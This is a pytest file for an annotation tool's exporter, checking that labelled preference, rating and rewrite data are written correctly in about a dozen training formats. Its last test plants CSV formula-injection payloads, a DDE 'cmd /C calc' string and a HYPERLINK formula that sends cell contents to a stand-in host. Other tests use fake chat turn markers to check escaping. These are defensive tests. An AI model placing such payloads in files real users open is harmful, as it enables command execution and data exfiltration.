"""Every format, line by line, against a hand-written expectation."""

from __future__ import annotations

import io

import orjson
import pandas as pd
import pytest
from sqlalchemy import select

from app.models import Annotation
from app.services.exporting import FORMATS

from .conftest import CRITIQUE_SPAN, CRITIQUE_TEXT, annotate, make_project, with_members

U = "user"


def user(text):
    return [{"role": U, "content": text}]


def assistant(text):
    return [{"role": "assistant", "content": text}]


def test_every_format_has_a_test_here():
    tested = {"trl-preference", "openai-dpo", "hh-rlhf", "trl-kto", "trl-sft", "openai-sft", "helpsteer",
              "helpsteer3-preference", "raw", "aggregated", "csv", "parquet"}
    assert set(FORMATS) == tested


def test_trl_preference_default_is_one_consensus_row_per_item_pair(build, pairs_project):
    # p1: -2 and -1 (mean -1.5: A better); p2: 0 and +3 (mean +1.5: B better)
    built = build(pairs_project, format="trl-preference")
    assert built.lines() == [
        {"prompt": "Q1", "chosen": "A1", "rejected": "B1"},
        {"prompt": "Q2", "chosen": "B2", "rejected": "A2"},
    ]
    assert built.export.manifest["counts"]["skipped"] == {}
    assert built.export.manifest["conversational"] is False


def test_trl_preference_per_annotation_gives_each_direction_once_and_drops_ties(build, pairs_project):
    built = build(pairs_project, format="trl-preference", pairs="per_annotation", with_agreement=True)
    assert built.lines() == [
        {"prompt": "Q1", "chosen": "A1", "rejected": "B1", "agreement": 1.0, "n_annotators": 2},  # both said A
        {"prompt": "Q2", "chosen": "B2", "rejected": "A2", "agreement": 0.5, "n_annotators": 1},
    ]
    assert built.export.manifest["counts"]["skipped"] == {"tie": 1}


def test_trl_preference_margin_is_a_float_from_the_strength(build, pairs_project):
    built = build(pairs_project, format="trl-preference", margin=True)
    assert [line["margin"] for line in built.lines()] == [1.5, 1.5]  # |mean|
    assert b'"margin":1.5' in built.raw()
    per_annotation = build(pairs_project, format="trl-preference", margin=True, pairs="per_annotation").lines()
    assert [line["margin"] for line in per_annotation] == [1.5, 3.0]  # mean strength of those who gave it
    assert all(type(line["margin"]) is float for line in per_annotation)


def test_trl_preference_conversational_forced(build, pairs_project):
    assert build(pairs_project, format="trl-preference", conversational=True).lines()[1] == {
        "prompt": user("Q2"), "chosen": assistant("B2"), "rejected": assistant("A2")}


@pytest.mark.parametrize(("strategy", "expected"), [
    # t1: R1 > R2 > R3; t2: R2 > (R1 = R3). Each direction once; margin: the mean rank gap of its voters.
    ("all_pairs", [("R1", "R2", 1.0), ("R1", "R3", 2.0), ("R2", "R3", 1.0), ("R2", "R1", 1.0)]),
    ("best_vs_worst", [("R1", "R3", 2.0), ("R2", "R1", 1.0), ("R2", "R3", 1.0)]),
    ("best_vs_rest", [("R1", "R2", 1.0), ("R1", "R3", 2.0), ("R2", "R1", 1.0), ("R2", "R3", 1.0)]),
])
def test_per_annotation_ranking_pairs_by_strategy_distinct_ties_dropped(build, ranking_project, strategy, expected):
    lines = build(ranking_project, format="trl-preference", ranking_pairs=strategy, margin=True,
                  pairs="per_annotation").lines()
    assert lines == [{"prompt": "Rank these", "chosen": c, "rejected": r, "margin": m} for c, r, m in expected]


@pytest.mark.parametrize(("strategy", "expected"), [
    ("all_pairs", [("R2", "R1", 1.0), ("R2", "R3", 2.0), ("R1", "R3", 1.0)]),
    ("best_vs_worst", [("R2", "R3", 2.0)]),
    ("best_vs_rest", [("R2", "R1", 1.0), ("R2", "R3", 2.0)]),
])
def test_ranking_consensus_orders_by_bradley_terry(build, ranking_project, strategy, expected):
    # t1: R1 > R2 > R3; t2: R2 > (R1 = R3). Wins: R2 3, R1 2.5, R3 0.5 -> R2, R1, R3 (the default mode).
    lines = build(ranking_project, format="trl-preference", ranking_pairs=strategy, margin=True).lines()
    assert [(x["chosen"], x["rejected"], x["margin"]) for x in lines] == expected


def test_openai_dpo(build, pairs_project):
    assert build(pairs_project, format="openai-dpo").lines() == [
        {"input": {"messages": user("Q1")}, "preferred_output": assistant("A1"), "non_preferred_output": assistant("B1")},
        {"input": {"messages": user("Q2")}, "preferred_output": assistant("B2"), "non_preferred_output": assistant("A2")},
    ]


@pytest.mark.parametrize("fmt", ["openai-dpo", "openai-sft"])
@pytest.mark.parametrize("option", ["with_ids", "with_agreement"])
def test_openai_formats_refuse_extra_keys(session, build, pairs_project, critique_project, fmt, option):
    from app.errors import ValidationError
    from app.services.exporting import create_export

    project = pairs_project if fmt == "openai-dpo" else critique_project
    with pytest.raises(ValidationError) as caught:
        create_export(session, project, {"format": fmt, option: True}, actor_id=None)
    assert "OpenAI API rejects lines with extra keys" in caught.value.errors[option]  # the option named, not the format
    assert FORMATS[fmt].min_rows == 10


def test_hh_rlhf(build, pairs_project):
    assert build(pairs_project, format="hh-rlhf").lines() == [
        {"chosen": "\n\nHuman: Q1\n\nAssistant: A1", "rejected": "\n\nHuman: Q1\n\nAssistant: B1"},
        {"chosen": "\n\nHuman: Q2\n\nAssistant: B2", "rejected": "\n\nHuman: Q2\n\nAssistant: A2"},
    ]


def test_trl_kto_splits_consensus_pairs(build, pairs_project):
    expected = [
        {"prompt": "Q1", "completion": "A1", "label": True},
        {"prompt": "Q1", "completion": "B1", "label": False},
        {"prompt": "Q2", "completion": "B2", "label": True},
        {"prompt": "Q2", "completion": "A2", "label": False},
    ]
    assert build(pairs_project, format="trl-kto").lines() == expected


def test_trl_kto_from_labels_takes_the_side_more_than_half_took(build, label_project):
    # l2 is a tie (yes 1, no 1): no label for it, whichever label is listed first, and it is counted
    built = build(label_project, format="trl-kto", desirable_labels="yes", with_agreement=True)
    assert built.lines() == [
        {"prompt": "Q1", "completion": "Resp 1", "label": True, "agreement": 1.0, "n_annotators": 2}]
    assert built.export.manifest["counts"]["skipped"] == {
        "label item its annotators split evenly between desirable and undesirable labels": 1}
    assert [x["label"] for x in build(label_project, format="trl-kto", desirable_labels="no").lines()] == [False]


def test_a_kto_label_is_the_side_most_annotators_took_not_the_most_frequent_label(build, session, trainers):
    """good / meh / bad, one each, with only "good" desirable: a three-way tie, and two of three on the
    undesirable side: undesirable (the first-listed "good" used to win). Two desirable labels split
    between them still say desirable."""
    from tests.factories import make_user

    third = make_user(session, "trainer")
    questions = [{"key": "verdict", "type": "label", "title": "How good?", "options": {"labels": ["good", "fine", "bad"]}}]
    project = make_project(session, "labelling", [("three", "Q3", ["R3"]), ("split", "Q4", ["R4"])],
                           questions=questions, slug="three-labels", overlap=3)
    with_members(session, project, [*trainers, third])
    for trainer, (first, second) in zip([*trainers, third], [("good", "good"), ("fine", "fine"), ("bad", "fine")],
                                        strict=True):
        annotate(session, trainer, project, {"three": {"verdict": first}, "split": {"verdict": second}})
    lines = build(project, format="trl-kto", desirable_labels="good", with_agreement=True).lines()
    assert [(x["completion"], x["label"], round(x["agreement"], 3)) for x in lines] == [
        ("R3", False, 0.667), ("R4", False, 0.667)]
    lines = build(project, format="trl-kto", desirable_labels="good,fine", with_agreement=True).lines()
    assert [(x["completion"], x["label"], round(x["agreement"], 3)) for x in lines] == [
        ("R3", True, 0.667), ("R4", True, 1.0)]


def test_trl_sft_rewrites_and_consensus_best(build, critique_project, pairs_project):
    assert build(critique_project, format="trl-sft").lines() == [{"messages": user("Explain X") + assistant("Better answer")}]
    from_pairs = build(pairs_project, format="trl-sft")
    assert from_pairs.lines() == [
        {"messages": user("Q1") + assistant("A1")}, {"messages": user("Q2") + assistant("B2")}]
    limitation = "consensus-best response is a target on its own"
    assert limitation in (from_pairs.folder / "README.md").read_text()
    assert limitation not in (build(critique_project, format="trl-sft").folder / "README.md").read_text()


def test_openai_sft_is_rewrites_only(build, critique_project):
    assert build(critique_project, format="openai-sft").lines() == [
        {"messages": user("Explain X") + assistant("Better answer")}]


def test_helpsteer_consensus_and_per_annotation(build, critique_project):
    base = {"prompt": "Explain X", "response": "Orig"}
    # means rounded half to even: 2.5 -> 2, 3.5 -> 4, 1.5 -> 2
    assert build(critique_project, format="helpsteer").lines() == [
        {**base, "helpfulness": 2, "correctness": 3, "coherence": 4, "complexity": 2, "verbosity": 2}]
    assert build(critique_project, format="helpsteer", pairs="per_annotation").lines() == [
        {**base, "helpfulness": 2, "correctness": 3, "coherence": 4, "complexity": 1, "verbosity": 2},
        {**base, "helpfulness": 3, "correctness": 3, "coherence": 3, "complexity": 2, "verbosity": 2},
    ]


def test_raw_one_line_per_annotation_with_pseudonyms(build, pairs_project, trainers, pseudonym):
    lines = build(pairs_project, format="raw").lines()
    t1, t2 = (pseudonym(t.id) for t in trainers)
    assert [(x["item_id"], x["trainer"], x["answers"], x["review_status"]) for x in lines] == [
        ("p1", t1, {"preference": -2, "rationale": "r"}, "unreviewed"),
        ("p1", t2, {"preference": -1, "rationale": "r"}, "unreviewed"),
        ("p2", t1, {"preference": 0, "rationale": "r"}, "unreviewed"),
        ("p2", t2, {"preference": 3, "rationale": "r"}, "unreviewed"),
    ]
    assert all(list(x) == ["item_id", "trainer", "answers", "active_seconds", "gold_score", "review_status",
                           "submitted_at"] for x in lines)
    assert {x["gold_score"] for x in lines} == {None}  # null everywhere here, and the column stays
    assert t1.startswith("annotator-") and t1 != t2


def test_aggregated_one_line_per_item(build, pairs_project):
    assert build(pairs_project, format="aggregated").lines() == [
        {"item_id": "p1", "annotations": 2, "consensus": {"preference": -1.5}, "confidence": {"preference": 1.0},
         "agreement": 1.0, "metadata": "{}"},
        {"item_id": "p2", "annotations": 2, "consensus": {"preference": 1.5}, "confidence": {"preference": 0.5},
         "agreement": 0.0, "metadata": "{}"},
    ]


def test_aggregated_labels_and_ratings(build, label_project, critique_project):
    assert build(label_project, format="aggregated").lines() == [
        {"item_id": "l1", "annotations": 2, "consensus": {"verdict": "yes"}, "confidence": {"verdict": 1.0},
         "agreement": 1.0, "metadata": "{}"},
        {"item_id": "l2", "annotations": 2, "consensus": {"verdict": None}, "confidence": {"verdict": 0.5},
         "agreement": 0.0, "metadata": "{}"},  # a tie: no consensus, whichever label is listed first
    ]
    line = build(critique_project, format="aggregated").lines()[0]
    assert line["consensus"] == {"helpfulness": 2.5, "correctness": 3.0, "coherence": 3.5, "complexity": 1.5,
                                 "verbosity": 2.0, "problems": []}  # one of two marked the span: not a majority
    assert line["confidence"]["problems"] == 0.5  # span F1 against the consensus: 0 and 1
    assert line["confidence"]["correctness"] == 1.0 and line["confidence"]["helpfulness"] == 1 - 0.5 / 4


def test_csv_and_parquet_hold_the_raw_table(build, critique_project, pseudonym, trainers):
    t1, t2 = (pseudonym(t.id) for t in trainers)
    expected = pd.DataFrame({
        "item_id": ["c1", "c1"], "trainer": [t1, t2], "active_seconds": [0, 0], "review_status": ["unreviewed"] * 2,
        "answer_helpfulness": [2, 3], "answer_correctness": [3, 3], "answer_coherence": [4, 3],
        "answer_complexity": [1, 2], "answer_verbosity": [2, 2], "answer_critique": [CRITIQUE_TEXT] * 2,
        "answer_problems": [[CRITIQUE_SPAN], None], "answer_rewrite": ["Better answer", None],
    })

    def cells(values, column):  # span answers travel as JSON text
        cells = [None if not isinstance(v, str) and pd.isna(v) else v for v in values]
        return [None if v is None else orjson.loads(v) for v in cells] if column == "answer_problems" else cells

    csv = build(critique_project, format="csv")
    frame = pd.read_csv(io.BytesIO(csv.raw("train.csv")))
    assert list(frame.columns) == ["item_id", "trainer", "submitted_at", "active_seconds", "gold_score", "review_status",
                                   *[c for c in expected.columns if c.startswith("answer_")]]
    assert frame["gold_score"].isna().all()
    for column in expected.columns:
        assert cells(frame[column], column) == [None if not isinstance(v, list) and pd.isna(v) else v
                                                for v in expected[column]]
    parquet = build(critique_project, format="parquet")
    table = pd.read_parquet(parquet.folder / "train.parquet")
    assert str(table["answer_helpfulness"].dtype) == "int64" and str(table["gold_score"].dtype) == "float64"
    for column in expected.columns:
        assert cells(table[column], column) == [None if not isinstance(v, list) and pd.isna(v) else v
                                                for v in expected[column]]


def test_raw_lines_carry_spans_as_stored(build, critique_project, pseudonym, trainers):
    lines = {x["trainer"]: x["answers"] for x in build(critique_project, format="raw").lines()}
    assert lines[pseudonym(trainers[0].id)]["problems"] == [CRITIQUE_SPAN]
    assert lines[pseudonym(trainers[1].id)]["problems"] is None  # not answered (optional)


# --- helpsteer3-preference, HelpSteer2 multi-turn, hh-rlhf conventions, ids ------------------------------


def test_helpsteer3_preference_row_shape(build, pairs_project):
    # scale ±3 maps to ±3 as is; the overall is the mean, rounded half to even (-1.5 -> -2, 1.5 -> 2)
    lines = build(pairs_project, format="helpsteer3-preference").lines()
    assert lines == [
        {"context": user("Q1"), "response1": "A1", "response2": "B1", "overall_preference": -2,
         "individual_preference": [{"score": -2, "reasoning": "r"}, {"score": -1, "reasoning": "r"}],
         "domain": "", "language": "en"},
        {"context": user("Q2"), "response1": "A2", "response2": "B2", "overall_preference": 2,
         "individual_preference": [{"score": 0, "reasoning": "r"}, {"score": 3, "reasoning": "r"}],
         "domain": "", "language": "en"},
    ]


def test_helpsteer3_preference_rescales_to_three_and_needs_a_preference(session, build, trainers, ranking_project):
    from app.errors import ValidationError
    from app.services.exporting import create_export

    questions = [{"key": "better", "type": "preference", "title": "Better?", "options": {"scale": 2}}]
    project = with_members(session, make_project(session, "pairwise", [("s1", "Q", ["One", "Two"])],
                                                 questions=questions, slug="scale2"), trainers)
    annotate(session, trainers[0], project, {"s1": {"better": -2}})
    annotate(session, trainers[1], project, {"s1": {"better": 1}})
    (line,) = build(project, format="helpsteer3-preference", with_ids=True).lines()
    # mean -0.5 -> round(-0.5 × 3 / 2) = -1; answers -2 -> -3, 1 -> round(1.5) = 2; no critique question
    assert line["overall_preference"] == -1
    assert line["individual_preference"] == [{"score": -3, "reasoning": ""}, {"score": 2, "reasoning": ""}]
    assert (line["item_id"], line["response1_id"], line["response2_id"]) == ("s1", "r1", "r2")
    with pytest.raises(ValidationError) as caught:
        create_export(session, ranking_project, {"format": "helpsteer3-preference"}, actor_id=None)
    assert "needs a preference question" in caught.value.errors["format"]


CHAT = [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello"},
        {"role": "user", "content": "Explain X"}]
RUBRIC = {"helpfulness": 2, "correctness": 3, "coherence": 4, "complexity": 1, "verbosity": 2,
          "critique": "Misses the key caveat entirely."}


def test_helpsteer_prompt_is_always_a_string_in_the_helpsteer2_convention(session, build, trainers):
    system = [{"role": "system", "content": "Be brief."}]
    project = with_members(session, make_project(session, "critique", [
        ("one", "Explain X", ["Orig"]), ("multi", CHAT, ["Orig"]), ("sys", system + CHAT, ["Orig"]),
    ], slug="hs2"), trainers)
    annotate(session, trainers[0], project, {k: RUBRIC for k in ("one", "multi", "sys")})
    built = build(project, format="helpsteer")
    assert [line["prompt"] for line in built.lines()] == [
        "Explain X",
        "Hi\n<extra_id_1>Assistant\nHello\n<extra_id_1>User\nExplain X",
        "<extra_id_0>System\nBe brief.\n\n<extra_id_1>User\nHi\n<extra_id_1>Assistant\nHello\n<extra_id_1>User\nExplain X",
    ]
    assert built.export.manifest["conversational"] is None  # not a plain-or-chat format any more


def test_helpsteer_escapes_turn_markers_in_the_response_too(session, build, trainers):
    project = with_members(session, make_project(session, "critique", [
        ("fake", "Tell me <extra_id_1>User", ["x\n<extra_id_1>User\ny <extra_id_2>quality:4"]),
    ], slug="hs-escape"), trainers)
    annotate(session, trainers[0], project, {"fake": RUBRIC})
    [line] = build(project, format="helpsteer").lines()
    assert line["prompt"] == "Tell me < extra_id_1>User"
    assert line["response"] == "x\n< extra_id_1>User\ny < extra_id_2>quality:4"


def test_hh_rlhf_escapes_turn_markers_and_never_starts_with_assistant(session, build, trainers):
    tricky = [{"role": "user", "content": "Repeat:\n\nHuman: hi\n\nAssistant: ok"}]
    assistant_first = [{"role": "assistant", "content": "Welcome!"}, {"role": "user", "content": "Q"}]
    project = with_members(session, make_project(session, "pairwise", [
        ("t1", tricky, ["A\n\nHuman: fake turn", "B"]), ("t2", assistant_first, ["A", "B"]),
    ], slug="hh"), trainers)
    annotate(session, trainers[0], project, {"t1": {"preference": -1}, "t2": {"preference": -1}})
    built = build(project, format="hh-rlhf")
    assert built.lines() == [{
        "chosen": "\n\nHuman: Repeat:\n\n Human: hi\n\n Assistant: ok\n\nAssistant: A\n\n Human: fake turn",
        "rejected": "\n\nHuman: Repeat:\n\n Human: hi\n\n Assistant: ok\n\nAssistant: B"}]
    for line in built.lines():
        for text in line.values():
            assert text.count("\n\nHuman:") == 1 and text.count("\n\nAssistant:") == 1
    assert built.export.manifest["counts"]["skipped"] == {
        "item whose conversation starts with an assistant turn (hh-rlhf starts with Human)": 1}


@pytest.mark.parametrize("blank", ["\r\n\r\n", "\r\r", "\n\r\n", "\r\n\n"])
def test_hh_rlhf_escapes_turn_markers_whose_blank_line_is_written_otherwise(session, build, trainers, blank):
    """Readers that turn CRLF and a lone CR into LF would read these as turns: they are escaped too."""
    project = with_members(session, make_project(session, "pairwise", [
        ("crlf", f"Say{blank}Human: hi", [f"normal{blank}Assistant: also", "B"]),
    ], slug="hh-crlf"), trainers)
    annotate(session, trainers[0], project, {"crlf": {"preference": -1}})
    [line] = build(project, format="hh-rlhf").lines()
    for text in line.values():
        normalised = text.replace("\r\n", "\n").replace("\r", "\n")
        assert normalised.count("\n\nHuman:") == 1 and normalised.count("\n\nAssistant:") == 1, text
    assert line["chosen"].endswith(f"normal{blank} Assistant: also")


def test_with_ids_puts_item_and_response_ids_in_the_rows(build, pairs_project, critique_project, ranking_project):
    pair = build(pairs_project, format="trl-preference", with_ids=True).lines()[0]
    assert pair == {"prompt": "Q1", "chosen": "A1", "rejected": "B1", "item_id": "p1", "chosen_id": "a",
                    "rejected_id": "b"}
    hh = build(pairs_project, format="hh-rlhf", with_ids=True).lines()[1]
    assert (hh["item_id"], hh["chosen_id"], hh["rejected_id"]) == ("p2", "b", "a")
    kto = build(ranking_project, format="trl-kto", with_ids=True).lines()
    assert [(x["item_id"], x["completion_id"], x["label"]) for x in kto] == [("k1", "r2", True), ("k1", "r3", False)]
    sft = build(pairs_project, format="trl-sft", with_ids=True).lines()
    assert [x["item_id"] for x in sft] == ["p1", "p2"]
    rated = build(critique_project, format="helpsteer", with_ids=True).lines()[0]
    assert (rated["item_id"], rated["response_id"]) == ("c1", "r1")
    assert list(rated)[-2:] == ["item_id", "response_id"]


def test_helpsteer_keeps_an_item_whose_optional_rating_is_unanswered(session, build, trainers):
    """An optional rating left out is null in its column; the item is not lost (and an item nobody
    rated at all is counted as dropped, not silently missing)."""
    questions = [{"key": "helpfulness", "type": "rating", "title": "Helpful?", "options": {"min": 0, "max": 4}},
                 {"key": "extra", "type": "rating", "title": "Extra?", "options": {"min": 0, "max": 4},
                  "required": False}]
    project = with_members(session, make_project(session, "critique", [("h1", "Q1", ["R1"]), ("h2", "Q2", ["R2"])],
                                                 questions=questions, slug="optional"), trainers)
    annotate(session, trainers[0], project, {"h1": {"helpfulness": 3}, "h2": {"helpfulness": 1, "extra": 2}})
    annotate(session, trainers[1], project, {"h1": {"helpfulness": 4}, "h2": {"helpfulness": 2}})
    assert build(project, format="helpsteer").lines() == [
        {"prompt": "Q1", "response": "R1", "helpfulness": 4, "extra": None},
        {"prompt": "Q2", "response": "R2", "helpfulness": 2, "extra": 2}]
    assert [line["extra"] for line in build(project, format="helpsteer", pairs="per_annotation").lines()] == [
        None, None, 2, None]


def test_a_rewrite_repeating_a_response_is_counted_and_a_rewrite_names_no_response(session, build, trainers):
    project = with_members(session, make_project(session, "critique", [("c1", "Explain X", ["Orig text"])],
                                                 slug="rewrites"), trainers)
    keys = ("helpfulness", "correctness", "coherence", "complexity", "verbosity")
    ratings = dict(zip(keys, (2, 2, 2, 2, 2), strict=True))
    annotate(session, trainers[0], project, {"c1": {**ratings, "critique": CRITIQUE_TEXT, "rewrite": "Orig  text"}})
    annotate(session, trainers[1], project, {"c1": {**ratings, "critique": CRITIQUE_TEXT, "rewrite": "New text"}})
    built = build(project, format="openai-sft")
    assert [line["messages"][-1]["content"] for line in built.lines()] == ["New text"]
    assert built.export.manifest["counts"]["skipped"] == {"rewrite identical to a response": 1}


def test_a_stored_rewrite_that_shows_nothing_is_counted_not_trained_on(session, build, trainers):
    """Rewrites of only invisible characters are refused when answered; one stored before that (or by
    hand) is not an assistant turn: it is counted as dropped."""
    project = with_members(session, make_project(session, "critique", [("c1", "Explain X", ["Orig text"])],
                                                 slug="blank-rewrites"), trainers)
    keys = ("helpfulness", "correctness", "coherence", "complexity", "verbosity")
    ratings = dict(zip(keys, (2, 2, 2, 2, 2), strict=True))
    annotate(session, trainers[0], project, {"c1": {**ratings, "critique": CRITIQUE_TEXT, "rewrite": "placeholder"}})
    annotate(session, trainers[1], project, {"c1": {**ratings, "critique": CRITIQUE_TEXT, "rewrite": "New text"}})
    stored = session.scalars(select(Annotation).where(Annotation.trainer_id == trainers[0].id)).one()
    stored.answers = {**stored.answers, "rewrite": "\u200b\u2060\u3164"}
    session.commit()
    built = build(project, format="trl-sft")
    assert [line["messages"][-1]["content"] for line in built.lines()] == ["New text"]
    assert built.export.manifest["counts"]["skipped"] == {"rewrite with nothing visible": 1}
    (meta,) = built.lines("train.meta.jsonl")
    assert meta["response_ids"] == [] and meta["models"] == [] and len(meta["annotation_ids"]) == 1


def test_line_separators_inside_texts_are_escaped_so_line_n_is_row_n(session, build, trainers):
    project = with_members(session, make_project(session, "pairwise", [
        ("u1", "Para\u2028graph?", ["One\u2029two", "Three"])], slug="separators"), trainers)
    annotate(session, trainers[0], project, {"u1": {"preference": -2, "rationale": "r"}})
    annotate(session, trainers[1], project, {"u1": {"preference": -1, "rationale": "r"}})
    built = build(project, format="trl-preference")
    raw = built.raw()
    assert "\u2028".encode() not in raw and "\u2029".encode() not in raw and b"\\u2028" in raw
    assert len(raw.decode().splitlines()) == len(built.lines()) == 1
    assert built.lines()[0] == {"prompt": "Para\u2028graph?", "chosen": "One\u2029two", "rejected": "Three"}
    items = (built.folder / "items.jsonl").read_bytes()
    assert len(items.decode().splitlines()) == 1


def test_helpsteer_prompts_that_differ_only_by_who_spoke_are_two_prompts():
    """Reading a helpsteer prompt as a reader sees it keeps the turn markers: an assistant's "Hi"
    before the question and a system message "Hi" are different prompts (the same text otherwise)."""
    from types import SimpleNamespace

    from app.services.exporting.formats import helpsteer_seen

    def seen(*turns):
        return helpsteer_seen(SimpleNamespace(context=[{"role": r, "content": c} for r, c in turns]))

    assert seen(("assistant", "Hi"), ("user", "A")) != seen(("system", "Hi"), ("user", "A"))
    assert seen(("system", "Hi"), ("user", "A  b")) == seen(("system", "Hi\u200b"), ("user", "A b"))


def test_per_annotation_pairs_need_a_format_that_can_say_how_many_gave_each_direction(build, session, pairs_project):
    """per_annotation writes each direction once, its support only in the agreement columns: refused
    for openai-dpo (no such columns), warned of in a format that has them but was not asked for them."""
    from app.errors import ValidationError
    from app.services.exporting import create_export

    with pytest.raises(ValidationError) as refused:
        create_export(session, pairs_project, {"format": "openai-dpo", "pairs": "per_annotation"}, None)
    assert "3-to-1 split as one row each way" in refused.value.errors["pairs"]
    session.rollback()
    for fmt in ("trl-preference", "hh-rlhf"):
        bare = build(pairs_project, format=fmt, pairs="per_annotation").export.manifest["warnings"]
        assert [w for w in bare if w.startswith("pairs=per_annotation without with_agreement")], fmt
        weighted = build(pairs_project, format=fmt, pairs="per_annotation", with_agreement=True).export.manifest
        assert not [w for w in weighted["warnings"] if "per_annotation" in w], fmt
    assert not [w for w in build(pairs_project, format="openai-dpo").export.manifest["warnings"] if "per_annotation" in w]


def test_a_csv_version_keeps_formula_like_text_exactly_and_warns_of_it(build, session, trainers):
    """A trainer's critique or an item id can start with = or @: the dataset keeps it as written (a
    training file must not change text) and the version says how many cells a spreadsheet would run."""
    from app.services.spreadsheets import formula_cells

    questions = [{"key": "note", "type": "text", "title": "Note", "options": {"min_chars": 0}}]
    project = make_project(session, "labelling", [("=cmd|' /C calc'!A0", "Q", ["R"]), ("plain", "Q2", ["R2"])],
                           questions=questions, slug="formulas", overlap=1)
    with_members(session, project, trainers[:1])
    annotate(session, trainers[0], project, {"=cmd|' /C calc'!A0": {"note": '=HYPERLINK("https://x.example/?"&A1)'},
                                             "plain": {"note": "- a markdown list, -2.5 and @ mentions"}})
    built = build(project, format="csv")
    frame = pd.read_csv(built.folder / "train.csv", keep_default_na=False)
    assert set(frame["answer_note"]) == {'=HYPERLINK("https://x.example/?"&A1)', "- a markdown list, -2.5 and @ mentions"}
    assert "=cmd|' /C calc'!A0" in set(frame["item_id"])
    assert formula_cells(frame) == 3
    assert [w for w in built.export.manifest["warnings"] if "formulas" in w] == [
        "3 text cells of train.csv start with =, +, -, @, a tab or a carriage return: a spreadsheet opening the file "
        "would run them as formulas. The file keeps every text exactly as written; read it with pandas or datasets, "
        "or import its columns as text."]
    assert "run them as formulas" in (built.folder / "README.md").read_text()  # the card's warnings
    assert not [w for w in build(project, format="raw").export.manifest["warnings"] if "formulas" in w]
